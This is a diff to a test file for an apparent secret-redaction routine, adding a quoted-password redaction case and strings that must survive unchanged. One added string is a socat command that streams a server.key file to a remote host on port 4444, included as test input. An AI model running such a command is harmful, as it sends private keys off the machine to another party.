@@ -146,6 +146,7 @@ describe('what is around it is kept', () => {
     ['login --password hunter2 --user bob', 'login --password [redacted:secret] --user bob'],
     ['user: bob\npassword: hunter2\nhost: db', 'user: bob\npassword: [redacted:secret]\nhost: db'],
     ['a\n-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----\nb', 'a\n[redacted:private-key]\nb'],
+    [`password='a token="b' c" d`, `password='[redacted:secret]" d`],
     [
       '<user>bob</user><password>hunter2</password>',
       '<user>bob</user><password>[redacted:secret]</password>',
@@ -179,6 +180,8 @@ describe('harmless text survives', () => {
     'docker login --password-stdin registry.test',
     'docker run -u 1000:1000 image',
     'git push -u origin main',
+    'socat -u OPEN:server.key TCP:host:4444',
+    '{"command": "gh gist list --secret", "expected": "allow"}',
     'const token = lexer.next()',
     'secrets: inherit',
     'PWD=/work/project OLDPWD=/home/dev',
